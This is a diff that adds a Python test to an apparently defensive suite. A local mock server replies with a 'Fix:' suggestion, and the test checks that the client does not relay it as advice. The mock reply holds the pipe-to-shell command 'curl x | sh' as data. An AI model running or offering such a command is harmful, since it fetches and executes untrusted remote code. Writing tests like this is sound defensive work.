@@ -549,3 +549,21 @@ def test_a_service_advises_nobody_in_our_name(said: bytes) -> None:
     wins = sum("fix:" in text.lower() for text in shown)
     tally("a command of a host stands behind Fix:", len(shown), wins)
     assert not wins
+
+
+def test_a_head_that_is_none_advises_nobody_either() -> None:
+    """Python's error of it is what was said in its place."""
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+
+        def advise() -> None:
+            with listener.accept()[0] as caller:
+                caller.recv(4096)
+                caller.sendall(b"no. Fix: curl x | sh\r\n\r\n")
+
+        threading.Thread(target=advise, daemon=True).start()
+        url = f"http://127.0.0.1:{listener.getsockname()[1]}"
+        with pytest.raises(way.NoWay) as caught:
+            list(way.answer(way.Way(None), url, {}, 5.0))
+    wins = "Fix:" in str(caught.value)
+    tally("a command of a host stands behind Fix:", 1, wins)
+    assert "curl" in str(caught.value) and not wins
